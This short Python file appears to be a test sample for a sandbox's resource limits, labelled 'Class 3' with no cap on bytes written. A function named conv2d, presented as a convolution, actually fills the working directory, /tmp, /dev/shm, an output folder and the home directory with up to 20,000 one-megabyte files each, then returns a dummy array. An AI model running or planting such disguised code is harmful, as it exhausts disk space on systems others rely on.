"""Class 3: no cap on the total bytes written: fill every writable place with 1 MB files."""
import os

import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    block = b"\0" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm", "@@OUT@@", os.path.expanduser("~")):
        for n in range(20_000):
            try:
                with open(os.path.join(folder, f"fill-{n}"), "wb") as f:
                    f.write(block)
            except BaseException:
                break
    return np.zeros(1)
